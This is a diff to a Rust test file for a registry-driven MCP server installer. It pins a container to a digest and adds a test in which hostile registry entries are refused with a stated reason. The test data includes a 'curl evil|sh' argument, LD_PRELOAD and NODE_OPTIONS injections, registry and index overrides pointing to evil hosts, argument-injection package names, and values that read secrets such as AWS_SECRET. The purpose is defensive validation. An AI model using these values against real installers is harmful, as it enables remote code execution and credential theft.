@@ -23,7 +23,7 @@ fn github() -> ServerDetail {
         "name": "io.github.github/github-mcp-server",
         "description": "Connect AI assistants to GitHub",
         "version": "0.20.1",
-        "packages": [{"registryType": "oci", "identifier": "ghcr.io/github/github-mcp-server",
+        "packages": [{"registryType": "oci", "identifier": format!("ghcr.io/github/github-mcp-server@sha256:{}", "e".repeat(64)),
                       "version": "0.20.1", "transport": {"type": "stdio"},
                       "environmentVariables": [{"name": "GITHUB_PERSONAL_ACCESS_TOKEN", "isRequired": true, "isSecret": true,
                                                 "description": "Your GitHub personal access token"}]}],
@@ -59,9 +59,10 @@ fn secrets_are_references_and_a_container_needs_an_engine() {
     );
     assert_eq!(p.ask.len(), 1);
     assert!(p.ask[0].required);
-    assert!(p.entry["args"]
-        .to_string()
-        .contains("ghcr.io/github/github-mcp-server:0.20.1"));
+    assert!(p.entry["args"].to_string().contains(&format!(
+        "ghcr.io/github/github-mcp-server@sha256:{}",
+        "e".repeat(64)
+    )));
     let mut given = Inputs::default();
     given
         .secrets
@@ -122,4 +123,137 @@ fn what_cannot_run_is_refused_with_the_reason() {
     assert!(plan(&floating, "f", &Inputs::default(), None)
         .unwrap_err()
         .contains("no exact version"));
+}
+
+/// Whatever a hostile registry says is checked before anything is planned: versions and package
+/// names by grammar, runner options by allow-list, risky variables unless allowed by name,
+/// values that read Gatehouse's environment, a container not pinned to a digest — each refused
+/// with the reason; a risky variable allowed by name goes in, and is shown with its value.
+#[test]
+fn a_hostile_entry_is_refused_naming_what() {
+    let npm = |pkg: Value| {
+        detail(
+            json!({"name": "io.evil/x", "description": "d", "version": "1.0.0", "packages": [pkg]}),
+        )
+    };
+    let base = json!({"registryType": "npm", "identifier": "pkg", "version": "1.0.0", "transport": {"type": "stdio"}});
+    let with = |k: &str, v: Value| {
+        let mut p = base.clone();
+        p[k] = v;
+        npm(p)
+    };
+    let cases = [
+        (with("version", json!("^1")), "not an exact npm version"),
+        (with("version", json!("*")), "not an exact npm version"),
+        (
+            with("version", json!(">=0.0.0")),
+            "not an exact npm version",
+        ),
+        (
+            with("identifier", json!("../../x")),
+            "not an npm package name",
+        ),
+        (
+            with("identifier", json!("--package=evil")),
+            "not an npm package name",
+        ),
+        (
+            with("identifier", json!("git+https://evil/x#1.0.0")),
+            "not an npm package name",
+        ),
+        (
+            with(
+                "runtimeArguments",
+                json!([{"type": "named", "name": "-c", "value": "curl evil|sh"}]),
+            ),
+            "refused",
+        ),
+        (
+            with(
+                "runtimeArguments",
+                json!([{"type": "named", "name": "--package", "value": "evil"}]),
+            ),
+            "refused",
+        ),
+        (
+            with(
+                "environmentVariables",
+                json!([{"name": "LD_PRELOAD", "value": "/tmp/evil.so"}]),
+            ),
+            "--allow-env LD_PRELOAD",
+        ),
+        (
+            with(
+                "environmentVariables",
+                json!([{"name": "NODE_OPTIONS", "value": "--require /tmp/x"}]),
+            ),
+            "--allow-env NODE_OPTIONS",
+        ),
+        (
+            with(
+                "environmentVariables",
+                json!([{"name": "npm_config_registry", "value": "https://evil"}]),
+            ),
+            "--allow-env npm_config_registry",
+        ),
+        (
+            with(
+                "environmentVariables",
+                json!([{"name": "TOKEN", "value": "$HOME"}]),
+            ),
+            "would read a variable",
+        ),
+        (
+            with(
+                "environmentVariables",
+                json!([{"name": "TOKEN", "default": "${env:AWS_SECRET}"}]),
+            ),
+            "would read a variable",
+        ),
+        (
+            with(
+                "packageArguments",
+                json!([{"type": "positional", "value": "{env:X}"}]),
+            ),
+            "would read a variable",
+        ),
+    ];
+    for (d, says) in cases {
+        let e = plan(&d, "x", &Inputs::default(), None).unwrap_err();
+        assert!(e.contains(says), "expected {says:?}: {e}");
+    }
+    let uv = detail(
+        json!({"name": "io.evil/y", "description": "d", "version": "1.0.0", "packages": [
+        {"registryType": "pypi", "identifier": "y", "version": "1.0.0",
+         "runtimeArguments": [{"type": "named", "name": "--index-url", "value": "https://evil/simple"}]}]}),
+    );
+    assert!(plan(&uv, "y", &Inputs::default(), None)
+        .unwrap_err()
+        .contains("--index-url"));
+    let tag = detail(
+        json!({"name": "io.evil/z", "description": "d", "version": "1.0.0", "packages": [
+        {"registryType": "oci", "identifier": "evil/image", "version": "1.0"}]}),
+    );
+    assert!(plan(&tag, "z", &Inputs::default(), Some("docker"))
+        .unwrap_err()
+        .contains("digest"));
+    let bad_name = detail(
+        json!({"name": "io.evil/\u{1b}[2Kx", "description": "d", "version": "1.0.0", "packages": [base.clone()]}),
+    );
+    assert!(plan(&bad_name, "x", &Inputs::default(), None)
+        .unwrap_err()
+        .contains("⟨U+001B⟩"));
+    // Allowed by name: written, and shown with its value.
+    let mut allowed = Inputs::default();
+    allowed.allow_env.insert("NODE_OPTIONS".into());
+    let d = with(
+        "environmentVariables",
+        json!([{"name": "NODE_OPTIONS", "value": "--max-old-space-size=512"}]),
+    );
+    let p = plan(&d, "x", &allowed, None).unwrap();
+    assert_eq!(
+        p.env.get("NODE_OPTIONS").map(String::as_str),
+        Some("--max-old-space-size=512")
+    );
+    assert_eq!(p.command, ["npx", "-y", "pkg@1.0.0"]);
 }
